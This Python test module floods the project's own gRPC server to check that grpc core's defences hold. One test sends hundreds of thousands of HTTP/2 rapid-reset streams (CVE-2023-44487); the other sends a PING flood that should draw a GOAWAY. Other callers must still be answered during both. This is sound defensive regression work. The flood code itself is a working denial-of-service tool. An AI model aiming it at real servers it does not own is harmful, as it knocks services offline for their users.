"""HTTP/2 control-frame floods on the gRPC port, against a real server (one cpu pool of 2 workers): grpc core's
own defences hold, and other callers are answered during the flood.

- rapid reset (CVE-2023-44487): streams opened and cancelled at once (HEADERS, RST_STREAM), hundreds of
  thousands on one connection: other callers are answered while it goes on, and after it;
- a PING flood: the server tells the peer to go away (GOAWAY "too_many_pings", grpc's ping strikes) and
  answers the others meanwhile.

No finding: these pin grpc core's behaviour so that an upgrade or a server option that loosens it shows.
Waits are on answers and frames, with generous ceilings."""
from __future__ import annotations

import struct
import threading
import time


from . import grpc_wire as gw
from .h2_raw import END_HEADERS, GOAWAY, HEADERS, PING, RST_STREAM, RawH2, frame, hpack
from .server import module_server

CEILING = 60.0
CANCEL = struct.pack(">I", 8)  # RST_STREAM error code CANCEL
BATCH = 500


srv = module_server("attacks_h2", devices="cpu")


class Flood:
    """Frames written in batches from a thread until stopped, the server closes the connection, or `most`."""

    def __init__(self, h: RawH2, batch, most: int):
        self.h, self.batch, self.most = h, batch, most
        self.sent, self.stop, self.ended = 0, threading.Event(), None
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        sid = 1
        try:
            while not self.stop.is_set() and self.sent < self.most:
                self.h.sock.sendall(self.batch(sid))
                sid += 2 * BATCH
                self.sent += BATCH
        except OSError as e:
            self.ended = e

    def wait_sent(self, n: int) -> None:
        end = time.monotonic() + CEILING
        while self.sent < n and self.thread.is_alive():
            assert time.monotonic() < end, f"the flood sent {self.sent} frames, not {n}"
            time.sleep(0.05)


def test_rapid_reset_does_not_stall_other_callers(srv, stub):
    gw.canary(stub)
    h = RawH2(srv.grpc_target)
    head = hpack([(":method", "POST"), (":scheme", "http"), (":path", "/gradserve.v1.Gradserve/Eval"),
                  (":authority", "x"), ("content-type", "application/grpc"), ("te", "trailers")])

    def batch(first: int) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS, s, head) + frame(RST_STREAM, 0, s, CANCEL)
                        for s in range(first, first + 2 * BATCH, 2))

    flood = Flood(h, batch, most=400_000)
    try:
        flood.wait_sent(20 * BATCH)  # under way
        for _ in range(3):
            gw.canary(stub)  # answered while the flood goes on (or after the server cut it off)
    finally:
        flood.stop.set()
        flood.thread.join(CEILING)
        h.close()
    gw.canary(stub)


def test_a_ping_flood_is_told_to_go_away(srv, stub):
    h = RawH2(srv.grpc_target)
    flood = Flood(h, lambda _: frame(PING, 0, 0, b"12345678") * BATCH, most=100_000)
    try:
        gw.canary(stub)
        h.sock.settimeout(CEILING)
        while True:  # (the server closes the connection after its GOAWAY: read_frame raises then)
            kind, _, _, payload = h.read_frame()
            if kind == GOAWAY:
                break
        assert b"too_many_pings" in payload, payload[:200]
    finally:
        flood.stop.set()
        flood.thread.join(CEILING)
        h.close()
    gw.canary(stub)
